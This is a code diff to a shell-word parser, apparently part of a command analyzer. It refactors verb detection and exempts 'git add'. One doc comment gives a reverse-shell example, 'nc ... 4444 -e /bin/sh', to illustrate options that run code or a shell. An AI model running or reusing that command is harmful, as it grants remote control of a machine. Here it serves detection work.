@@ -346,8 +346,13 @@ record ShellWord(Text text, int end, Kind kind, Text plain) {
                 || c == '/' && (Text.isWord(next) || Text.isSpace(next))
                 || Text.isLetter(c) && next == ':' && (text.at(at + 2) == '\\' || text.at(at + 2) == '/')
                 || text.says("%systemroot%", at)
-                || isVerbose() && ShellWords.VERBS.has(text, at, text.wordEnd(at))
+                || isVerbose() && isVerb(at)
                 || kind == Kind.DISTINCT && (text.says("http://", at) || text.says("https://", at));
+    }
+
+    private boolean isVerb(int at) {
+        var git = plain.length() == 3 && plain.says("git", 0);
+        return ShellWords.VERBS.has(text, at, text.wordEnd(at)) && !(git && text.says("add", at));
     }
 
     /** Tells whether an option follows that takes code or a shell: {@code perl -e '...'}, {@code nc 203.0.113.7 4444 -e /bin/sh}. */
